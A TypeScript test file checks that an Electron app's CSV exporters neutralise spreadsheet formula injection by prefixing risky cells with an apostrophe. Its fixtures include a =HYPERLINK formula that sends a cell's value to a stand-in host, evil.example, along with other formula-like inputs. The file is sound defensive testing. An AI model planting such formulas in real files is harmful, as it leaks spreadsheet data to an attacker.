import fc from 'fast-check';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { toSafeCsv } from '../../../../electron/platform/csv-writer.ts';
import { auditToCsv } from '../../../../electron/audit/audit-csv.ts';
import { toCsv } from '../../../../renderer/lib/csv.ts';
import type { AuditEntry } from '../../../../shared/domain/audit.ts';
import { hostileString } from '../../../support/zod-arbitrary.ts';

const formulaStart = /^[=+\-@\t\r]/;
const readBack = (csv: string): string[][] => parse(csv, { relax_column_count: true }) as string[][];

describe('CSV the app writes', () => {
  it.each([
    ['toSafeCsv (electron)', (cells: string[]) => toSafeCsv([cells])],
    ['toCsv (renderer)', (cells: string[]) => toCsv(cells, [])],
  ] as const)('%s: no cell reads back as a formula, and each reads back as written but for the apostrophe', (_name, write) => {
    fc.assert(
      fc.property(fc.array(fc.oneof(hostileString, fc.constantFrom('=1+1', '+1', '-1', '@A1', '\t=x', '\r=x', '=HYPERLINK("http://x","y")')), { minLength: 1, maxLength: 5 }), (cells) => {
        const [row] = readBack(write(cells));
        expect(row).toHaveLength(cells.length);
        row!.forEach((cell, i) => {
          expect(cell).not.toMatch(formulaStart);
          expect(cell).toBe(formulaStart.test(cells[i]!) ? `'${cells[i]}` : cells[i]);
        });
      }),
      { numRuns: 500 },
    );
  });

  it('audit export neutralises an object named like a formula', () => {
    const entry: AuditEntry = {
      seq: 1, at: '2026-12-06T10:00:00.000Z', operator: '@admin', action: 'mailboxes.create', connectionId: null,
      object: '=HYPERLINK("http://evil.example/?leak="&A1,"click")', before: null, after: { name: '+cmd' }, result: 'ok', errorCode: null, hash: 'ab',
    } as AuditEntry;
    const [, row] = readBack(auditToCsv([entry]));
    expect(row![2]).toBe("'@admin");
    expect(row![5]).toBe(`'=HYPERLINK("http://evil.example/?leak="&A1,"click")`);
    expect(row![0]).toBe('1');
  });
});
